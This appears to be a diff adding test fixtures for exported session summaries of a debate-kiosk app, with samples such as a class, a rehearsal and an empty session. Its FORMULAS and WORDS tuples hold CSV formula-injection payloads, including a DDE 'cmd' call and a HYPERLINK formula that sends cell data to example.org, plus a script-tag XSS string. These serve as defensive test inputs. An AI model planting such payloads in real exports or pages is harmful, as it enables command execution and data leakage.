@@ -1,0 +1,62 @@
+"""Summaries to export: hostile words, and every kind of session that is looked at."""
+
+from typing import Final
+
+from kiosk.domain.ballot import Stance
+from kiosk.domain.debate import Side
+from kiosk.domain.disclosure import EnteredVotes
+from kiosk.domain.flow import Flow, Moves
+from kiosk.domain.session import Mode
+from kiosk.domain.tally import Entered, Split
+from kiosk.services.summary import Summary
+from tests.publishing.pages import FLOW, reason, summary
+
+FORMULAS: Final = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1;1)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://example.org/?"&A1,"click")',
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "＝1+1",
+    'a",=1+1,"b',
+    "a;=1+1;b",
+    "a\n=1+1",
+    "a;-1+1;b",
+    "=WEBSERVICE(A1)",
+    "{=1+1}",
+    "%0A=1+1",
+    "|=1",
+)
+WORDS: Final = ("Hello ;-)", "مرحبا بالعالم، هذا رأيي hello", "日本語 😀", "I <3 this & <b>bold", "</script><script>alert(1)</script>")
+
+
+def exported(**changes: object) -> Summary:
+    """A closed session at a booth, with the identity a real one has."""
+    return summary(**{"session_id": "ab" * 16, "debate_id": "sample", "without_opening": 0, **changes})
+
+
+HOSTILE: Final = exported(
+    session="=1+1", question="@question", reasons=[reason(text, side, 3, 9) for text in (*FORMULAS, *WORDS) for side in Side]
+)
+SUMMARIES: Final = {
+    "a day at a booth": exported(),
+    "nobody came": exported(votes=0, visits=0, split=None, flow=None, reasons=[], points=[], without_opening=None),
+    "four votes": exported(votes=4, visits=9, split=None, flow=None, points=[], without_opening=None),
+    "moves": exported(flow=None, moves=Moves(700, 300, 285)),
+    "a class": exported(
+        mode=Mode.CLASSROOM,
+        votes=30,
+        visits=30,
+        split=Split(20, 10),
+        flow=Flow({(Stance.FOR, Side.FOR): 20, (Stance.AGAINST, Side.AGAINST): 10}),
+        entered=[EnteredVotes(Entered.TOUCH, 10, Split(5, 5)), EnteredVotes(Entered.RAISED, 20)],
+    ),
+    "a rehearsal": exported(rehearsal=True, closed=False, closed_on=None),
+    "still open": exported(closed=False, closed_on=None, flow=FLOW, points=[]),
+    "words removed": exported(reasons=[], expired=True),
+    "hostile words": HOSTILE,
+}
